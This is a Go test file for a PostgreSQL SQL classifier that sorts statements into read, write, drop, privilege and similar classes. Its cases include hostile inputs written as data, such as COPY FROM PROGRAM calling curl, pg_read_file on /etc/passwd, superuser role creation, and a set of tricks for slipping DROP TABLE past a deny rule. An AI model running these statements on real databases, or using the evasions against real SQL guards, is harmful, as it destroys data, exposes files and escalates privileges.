package sqlclass

import (
	"slices"
	"strings"
	"testing"
)

func TestClassify(t *testing.T) {
	t.Parallel()
	prepared := func(name string) ([]string, bool) {
		if name == "wipe" {
			return []string{Write, UnboundedWrite}, true
		}
		return nil, false
	}
	tests := []struct {
		name string
		sql  string
		want []string
	}{
		{"select", "SELECT * FROM users WHERE id = 1", []string{Read}},
		{"insert", "INSERT INTO t VALUES (1)", []string{Write}},
		{"update bounded", "UPDATE t SET a = 1 WHERE id = 2", []string{Write}},
		{"update unbounded", "UPDATE t SET a = 1", []string{UnboundedWrite, Write}},
		{"delete where true", "DELETE FROM t WHERE true", []string{UnboundedWrite, Write}},
		{"delete where 1=1", "DELETE FROM t WHERE 1 = 1", []string{UnboundedWrite, Write}},
		{"delete bounded", "DELETE FROM t WHERE id = $1", []string{Write}},
		{"cte read+delete", "WITH d AS (DELETE FROM t WHERE id < 5 RETURNING *) SELECT * FROM d", []string{Read, Write}},
		{"ddl", "CREATE TABLE x (a int)", []string{DDL}},
		{"alter", "ALTER TABLE x ADD COLUMN b int", []string{DDL}},
		{"index", "CREATE INDEX ON x (a)", []string{DDL}},
		{"drop", "DROP TABLE x", []string{Drop}},
		{"truncate", "TRUNCATE x", []string{Drop}},
		{"copy to stdout", "COPY t TO STDOUT", []string{Copy, Read}},
		{"copy from stdin", "COPY t FROM STDIN", []string{Copy, Write}},
		{"copy program", "COPY t FROM PROGRAM 'curl evil'", []string{Copy, CopyProgram, Write}},
		{"copy server file", "COPY t TO '/tmp/x'", []string{Copy, Read, ServerFile}},
		{"copy select", "COPY (SELECT ssn FROM users) TO STDOUT", []string{Copy, Read}},
		{"copy query", "COPY (DELETE FROM t RETURNING *) TO STDOUT", []string{Copy, UnboundedWrite, Write}},
		{"server file fn", "SELECT pg_read_file('/etc/passwd')", []string{Read, ServerFile}},
		{"qualified server file fn", "select PG_CATALOG.Pg_Read_File('/etc/passwd')", []string{Read, ServerFile}},
		{"lo_export", "SELECT lo_export(1234, '/tmp/x')", []string{Read, ServerFile}},
		{"grant", "GRANT ALL ON t TO bob", []string{Privilege}},
		{"create role", "CREATE ROLE evil SUPERUSER", []string{Privilege}},
		{"alter role", "ALTER ROLE app PASSWORD 'x'", []string{Privilege}},
		{"set role", "SET ROLE postgres", []string{SetRole}},
		{"set session authorization", "SET SESSION AUTHORIZATION postgres", []string{SetRole}},
		{"reset all", "RESET ALL", []string{SetRole}},
		{"set_config role", "SELECT set_config('role', 'postgres', false)", []string{Read, SetRole}},
		{"set_config dynamic", "SELECT set_config($1, 'x', false)", []string{Read, SetRole}},
		{"set work_mem", "SET work_mem = '64MB'", []string{Session}},
		{"show", "SHOW search_path", []string{Session}},
		{"do", "DO $$ BEGIN DROP TABLE t; END $$", []string{Procedural}},
		{"call", "CALL p()", []string{Procedural}},
		{"begin", "BEGIN", []string{Transaction}},
		{"commit", "COMMIT", []string{Transaction}},
		{"savepoint", "SAVEPOINT a", []string{Transaction}},
		{"explain", "EXPLAIN DELETE FROM t", []string{Read}},
		{"explain analyze", "EXPLAIN ANALYZE DELETE FROM t", []string{UnboundedWrite, Write}},
		{"explain (analyze)", "EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1", []string{UnboundedWrite, Write}},
		{"select into", "SELECT * INTO newt FROM t", []string{DDL, Read}},
		{"for update", "SELECT * FROM t WHERE id = 1 FOR UPDATE", []string{Read, Write}},
		{"ctas", "CREATE TABLE x AS SELECT * FROM t", []string{DDL, Read}},
		{"notify", "NOTIFY ch, 'payload'", []string{Write}},
		{"pg_notify", "SELECT pg_notify('ch', 'x')", []string{Read, Write}},
		{"listen", "LISTEN ch", []string{Session}},
		{"parse error", "SELEC 1", []string{Unknown}},
		{"empty", "", []string{Session}},
		{"multi", "SELECT 1; DROP TABLE t", []string{Drop, Read}},
		{"prepare", "PREPARE p AS DELETE FROM t", []string{Session}},
		{"execute known", "EXECUTE wipe", []string{UnboundedWrite, Write}},
		{"execute unknown", "EXECUTE nope(1)", []string{Unknown}},
		{"prepare then execute in one string", "PREPARE q AS DELETE FROM t; EXECUTE q", []string{Session, UnboundedWrite, Write}},
		{"terminate", "SELECT pg_terminate_backend(123)", []string{Privilege, Read}},
		{"query_to_xml", "SELECT query_to_xml('DROP TABLE t', true, true, '')", []string{Procedural, Read}},
		{"table_to_xml reads a table by name", "SELECT table_to_xml('users', true, false, '')", []string{Procedural, Read}},
		{"ts_stat runs its argument", "SELECT * FROM pg_catalog.ts_stat('SELECT to_tsvector(ssn) FROM users')", []string{Procedural, Read}},
		// Evasions of a deny on drop.
		{"comment", "/* harmless */ DROP /* really */ TABLE t -- x", []string{Drop}},
		{"case", "dRoP tAbLe t", []string{Drop}},
		{"quoted ident", `DROP TABLE "Users"`, []string{Drop}},
		{"dollar quoting", "SELECT $x$; DROP TABLE t; $x$", []string{Read}},
		{"E string", `SELECT E'\'; DROP TABLE t; --'`, []string{Read}},
		{"E string then drop", `SELECT E'\''; DROP TABLE t`, []string{Drop, Read}},
		{"function wrapping drop (sql)", "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DROP TABLE t'", []string{DDL, Drop}},
		{"function wrapping drop (plpgsql)", "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN IF 1 > 0 THEN DROP TABLE t; END IF; END $$", []string{DDL, Drop, Procedural, Read}},
		{"function with dynamic sql", "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'DR' || 'OP TABLE t'; END $$", []string{DDL, Procedural, Read, Unknown}},
		{"function in C", "CREATE FUNCTION f() RETURNS void LANGUAGE c AS 'lib', 'sym'", []string{DDL, Procedural}},
		{"sql-standard body", "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE FROM t WHERE a = 1; SELECT 1; END", []string{DDL, Read, Write}},
	}
	var c Classifier
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			r := c.Classify(tc.sql, prepared)
			if !slices.Equal(r.Classes, tc.want) {
				t.Errorf("Classify(%q) = %v (err %v), want %v", tc.sql, r.Classes, r.Err, tc.want)
			}
		})
	}
}

func TestStatementsSplit(t *testing.T) {
	t.Parallel()
	var c Classifier
	r := c.Classify("SELECT 1;  PREPARE p AS UPDATE t SET a = 1 ; DROP TABLE t", nil)
	if len(r.Statements) != 3 {
		t.Fatalf("statements = %+v", r.Statements)
	}
	if r.Statements[1].Text != "PREPARE p AS UPDATE t SET a = 1" || r.Statements[1].Prepares != "p" ||
		!slices.Equal(r.Statements[1].Inner, []string{UnboundedWrite, Write}) {
		t.Errorf("prepare = %+v", r.Statements[1])
	}
	if r.Statements[2].Text != "DROP TABLE t" {
		t.Errorf("text = %q", r.Statements[2].Text)
	}
}

// FuzzClassify: any input yields at least one class, never panics, and a
// parse failure is always unknown.
func FuzzClassify(f *testing.F) {
	for _, s := range []string{"SELECT 1", "DROP TABLE t; SELECT 1", "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN NULL; END $$", "COPY t FROM PROGRAM 'x'", "EXECUTE p", "WITH a AS (DELETE FROM t) SELECT 1"} {
		f.Add(s)
	}
	var c Classifier
	f.Fuzz(func(t *testing.T, sql string) {
		if strings.ContainsRune(sql, 0) {
			return // libpg_query takes C strings
		}
		r := c.Classify(sql, nil)
		if len(r.Classes) == 0 {
			t.Fatalf("no class for %q", sql)
		}
		if r.Err != nil && !slices.Equal(r.Classes, []string{Unknown}) {
			t.Fatalf("parse error but classes %v", r.Classes)
		}
	})
}

func TestCacheKey(t *testing.T) {
	t.Parallel()
	tests := []struct {
		sql, key   string
		single, ok bool
	}{
		{"SELECT a FROM t WHERE id = 42", "SELECT a FROM t WHERE id = 0", true, true},
		{"SELECT a FROM t WHERE id = 4242;", "SELECT a FROM t WHERE id = 0;", true, true},
		{"SELECT t1.c2 FROM t1 WHERE x = 1.5e3", "SELECT t1.c2 FROM t1 WHERE x = 0", true, true},
		{"SELECT set_config('role', 'x', false)", "SELECT set_config('role', 'x', false)", true, true},
		{"SELECT 'it''s 42' -- 7\n, 8", "SELECT 'it''s 42'  \n, 0", true, true},
		{"SELECT $1 + 2", "SELECT $1 + 0", true, true},
		{"SELECT 1; DROP TABLE t", "SELECT 0; DROP TABLE t", false, true},
		{"SELECT E'\\x'", "", false, false},
		{"SELECT $q$ 1 $q$", "", false, false},
		{"SELECT 'open", "", false, false},
	}
	for _, tc := range tests {
		key, single, ok := cacheKey(tc.sql)
		if ok != tc.ok || ok && (key != tc.key || single != tc.single) {
			t.Errorf("cacheKey(%q) = %q, %v, %v; want %q, %v, %v", tc.sql, key, single, ok, tc.key, tc.single, tc.ok)
		}
	}
}

// TestFoldedCacheKeepsClasses checks that queries sharing a folded key
// (numbers aside) share classes, and that each reports its own text.
func TestFoldedCacheKeepsClasses(t *testing.T) {
	t.Parallel()
	var c Classifier
	a := c.Classify("DELETE FROM t WHERE id = 1", nil)
	b := c.Classify("DELETE FROM t WHERE id = 2", nil)
	if !slices.Equal(a.Classes, b.Classes) || b.Statements[0].Text != "DELETE FROM t WHERE id = 2" {
		t.Errorf("a %+v b %+v", a, b)
	}
	r1 := c.Classify("SELECT set_config('work_mem', '1MB', false)", nil)
	r2 := c.Classify("SELECT set_config('role', 'postgres', false)", nil)
	if slices.Equal(r1.Classes, r2.Classes) {
		t.Errorf("string literals folded: %v %v", r1.Classes, r2.Classes)
	}
}

func TestSettingsTheClassifierDependsOn(t *testing.T) {
	t.Parallel()
	var c Classifier
	for _, tc := range []struct {
		sql  string
		want []string
	}{
		{"SET standard_conforming_strings = off", []string{Unknown}},
		{"SET standard_conforming_strings TO false", []string{Unknown}},
		{"SET LOCAL standard_conforming_strings = 0", []string{Unknown}},
		{"SET standard_conforming_strings = on", []string{Session}},
		{"RESET standard_conforming_strings", []string{Session}},
		{"SET client_encoding = 'SJIS'", []string{Unknown}},
		{"SET NAMES 'big5'", []string{Unknown}},
		{"SET client_encoding TO 'Shift_JIS_2004'", []string{Unknown}},
		{"SET client_encoding = 'UTF8'", []string{Session}},
		{"SET NAMES 'LATIN1'", []string{Session}},
		{"SELECT set_config('standard_conforming_strings', 'off', false)", []string{Read, Unknown}},
		{"SELECT set_config('client_encoding', 'gbk', false)", []string{Read, Unknown}},
		{"SELECT set_config('client_encoding', $1, false)", []string{Read, Unknown}},
		{"SELECT set_config('standard_conforming_strings', 'on', false)", []string{Read, Session}},
	} {
		r := c.Classify(tc.sql, nil)
		if strings.Join(r.Classes, ",") != strings.Join(tc.want, ",") {
			t.Errorf("%s: %v, want %v", tc.sql, r.Classes, tc.want)
		}
	}
}
